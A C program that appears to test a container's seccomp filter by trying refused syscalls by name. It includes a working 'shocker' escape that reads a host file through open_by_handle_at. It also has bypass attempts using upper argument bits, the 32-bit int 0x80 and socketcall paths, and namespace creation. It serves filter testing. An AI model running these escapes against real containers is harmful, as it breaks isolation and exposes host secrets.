/*
 * System calls that a container's filter is to refuse, tried by name: attack NAME [ARGUMENT].
 * What was gained goes to standard output, and the program ends with 0; with 1 when the call was refused.
 * Any other answer of the kernel shows that the filter let the call through, which is a gain, too.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define UPPER (1L << 32)
enum { VSOCK = 40, ALG = 38, PACKET = 17 };

static int judge(const char *what, long result)
{
	if (result < 0 && (errno == EPERM || errno == ENOSYS || errno == EACCES)) {
		printf("%s: %s\n", what, strerror(errno));
		return 1;
	}
	if (result < 0)
		printf("%s: the kernel was asked and said %s\n", what, strerror(errno));
	else
		printf("%s: got %ld\n", what, result);
	return 0;
}

#ifdef __x86_64__
/* A call as 32-bit programs make it. Pointers in it must be to this program's own data, which lies below 4 GiB. */
static long call32(long number, long a, long b, long c, long d, long e)
{
	long result;
	asm volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e) : "r8", "r9", "r10", "r11", "memory");
	result = (int)result;
	if (result < 0 && result > -4096) {
		errno = -result;
		return -1;
	}
	return result;
}

static uint32_t words[6];

static long socketcall(int call, uint32_t a, uint32_t b, uint32_t c)
{
	words[0] = a;
	words[1] = b;
	words[2] = c;
	return call32(102, call, (long)words, 0, 0, 0);
}
#endif

/* A child with a user namespace of its own has all capabilities there. */
static int child(const char *what, long pid)
{
	if (pid == 0)
		_exit(0);
	int failed = judge(what, pid);
	if (pid > 0)
		waitpid(pid, NULL, 0);
	return failed;
}

static int clone3_user(void)
{
	uint64_t arguments[8] = { CLONE_NEWUSER, 0, 0, 0, SIGCHLD };
	return child("clone3(CLONE_NEWUSER)", syscall(SYS_clone3, arguments, sizeof arguments));
}

static int no_randomization(long bits)
{
	syscall(SYS_personality, bits);
	long now = syscall(SYS_personality, 0xffffffffL);
	if (now < 0 || !(now & 0x40000)) {
		printf("personality is %lx\n", now);
		return 1;
	}
	printf("address randomization is off: personality is %lx\n", now);
	return 0;
}

/* Opens the root directory of the disk that a volume is on by its number (2, on ext4), and reads a file of the host's below it. */
static int shocker(const char *volume, const char *secret)
{
	struct { struct file_handle head; uint32_t body[2]; } handle = { { 8, 1 }, { 2, 0 } };
	int on = open(volume, O_RDONLY);
	long root = syscall(SYS_open_by_handle_at, on, &handle, O_RDONLY | O_DIRECTORY);
	if (root < 0)
		return judge("open_by_handle_at(inode 2 of the host's disk)", root);
	char text[128] = "";
	int file = openat(root, secret + 1, O_RDONLY);
	if (file >= 0 && read(file, text, sizeof text - 1) > 0)
		printf("read %s: %s\n", secret, text);
	else
		printf("opened a directory of the host's by its number\n");
	return 0;
}

static int bpf_map(void)
{
	uint32_t attributes[32] = { 2 /* BPF_MAP_TYPE_ARRAY */, 4, 8, 1 };
	return judge("bpf(BPF_MAP_CREATE)", syscall(SYS_bpf, 0, attributes, sizeof attributes));
}

static int perf(void)
{
	struct perf_event_attr attributes = { .type = PERF_TYPE_SOFTWARE, .size = sizeof attributes, .config = PERF_COUNT_SW_CPU_CLOCK };
	return judge("perf_event_open of the whole processor", syscall(SYS_perf_event_open, &attributes, -1, 0, -1, 0));
}

static int io_uring(void)
{
	char parameters[256] = "";
	return judge("io_uring_setup", syscall(SYS_io_uring_setup, 1, parameters));
}

static int setuid_mode(long mode)
{
	const char *file = "/tmp/program";
	close(open(file, O_CREAT | O_WRONLY, 0700));
	syscall(SYS_chmod, file, mode);
	struct stat now;
	if (stat(file, &now) < 0 || !(now.st_mode & S_ISUID)) {
		printf("the mode is %o\n", now.st_mode);
		return 1;
	}
	printf("the file is setuid: mode %o\n", now.st_mode);
	return 0;
}

int main(int count, char **words_given)
{
	const char *name = count > 1 ? words_given[1] : "";
#define ATTACK(called) if (strcmp(name, called) == 0)
	ATTACK("vsock-plain") return judge(name, syscall(SYS_socket, VSOCK, 1, 0));
	ATTACK("vsock-upper") return judge(name, syscall(SYS_socket, VSOCK | UPPER, 1, 0));
	ATTACK("vsock-signed") return judge(name, syscall(SYS_socket, VSOCK | -UPPER, 1, 0));
	ATTACK("vsock-bit63") return judge(name, syscall(SYS_socket, VSOCK | (1UL << 63), 1, 0));
	ATTACK("alg-upper") return judge(name, syscall(SYS_socket, ALG | UPPER, 5, 0));
	ATTACK("clone-user") return child(name, syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
	ATTACK("clone-user-upper") return child(name, syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD | UPPER, 0, 0, 0, 0));
	ATTACK("clone-net-upper") return child(name, syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNET | SIGCHLD | -UPPER, 0, 0, 0, 0));
	ATTACK("clone3-user") return clone3_user();
	ATTACK("unshare-user") return judge(name, syscall(SYS_unshare, CLONE_NEWUSER));
	ATTACK("unshare-net") return judge(name, syscall(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNET));
	ATTACK("setns-self") return judge(name, syscall(SYS_setns, open("/proc/self/ns/net", O_RDONLY), UPPER));
	ATTACK("personality") return no_randomization(0x40000);
	ATTACK("personality-upper") return no_randomization(0x40000 | UPPER);
	ATTACK("add-key") return judge(name, syscall(SYS_add_key, "user", "quai", "x", 1, KEY_SPEC_PROCESS_KEYRING));
	ATTACK("keyctl") return judge(name, syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, 0));
	ATTACK("keyctl-upper") return judge(name, syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING | UPPER, 0));
	ATTACK("request-key") return judge(name, syscall(SYS_request_key, "user", "quai", 0, KEY_SPEC_PROCESS_KEYRING));
	ATTACK("bpf") return bpf_map();
	ATTACK("userfaultfd") return judge(name, syscall(SYS_userfaultfd, 1 /* UFFD_USER_MODE_ONLY */));
	ATTACK("perf") return perf();
	ATTACK("shocker") return shocker(words_given[2], words_given[3]);
	ATTACK("io-uring") return io_uring();
	ATTACK("fsopen") return judge(name, syscall(SYS_fsopen, "tmpfs", 0));
	ATTACK("open-tree") return judge(name, syscall(SYS_open_tree, AT_FDCWD, "/etc", 1 /* OPEN_TREE_CLONE */));
	ATTACK("syslog") return judge(name, syscall(SYS_syslog, 10 /* SIZE_BUFFER */, 0, 0));
	ATTACK("move-pages") return judge(name, syscall(SYS_move_pages, 0, 0, 0, 0, 0, 0));
	ATTACK("packet") return judge(name, syscall(SYS_socket, PACKET, 3, 0));
	ATTACK("packet-upper") return judge(name, syscall(SYS_socket, PACKET | UPPER, 3, 0));
	ATTACK("chmod-setuid-upper") return setuid_mode(04755 | 0x10000);
	ATTACK("chmod-setuid") return setuid_mode(04755);
#ifdef __x86_64__
	ATTACK("vsock-socketcall") return judge(name, socketcall(1, VSOCK, 1, 0));
	ATTACK("alg-socketcall") return judge(name, socketcall(1, ALG, 5, 0));
	ATTACK("inet-socketcall") return judge(name, socketcall(1, 2, 1, 0));
	ATTACK("inet-socket32") return judge(name, call32(359, 2, 1, 0, 0, 0));
	ATTACK("vsock-socket32") return judge(name, call32(359, VSOCK, 1, 0, 0, 0));
	ATTACK("raw-socketcall") return judge(name, socketcall(1, 2, 3, 1));
	ATTACK("shmget-ipc") return judge(name, call32(117, 23, 0, 4096, 0x1ff | 01000, 0));
	ATTACK("shmget-ipc-version") return judge(name, call32(117, 0x10017, 0, 4096, 0x1ff | 01000, 0));
	ATTACK("clone-user-32") return child(name, call32(120, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
	ATTACK("unshare-user-32") return judge(name, call32(310, CLONE_NEWUSER, 0, 0, 0, 0));
	ATTACK("keyctl-32") return judge(name, call32(288, KEYCTL_JOIN_SESSION_KEYRING, 0, 0, 0, 0));
	ATTACK("io-uring-32") return judge(name, call32(425, 1, (long)words, 0, 0, 0));
#endif
	fprintf(stderr, "no attack is called %s\n", name);
	return 2;
}
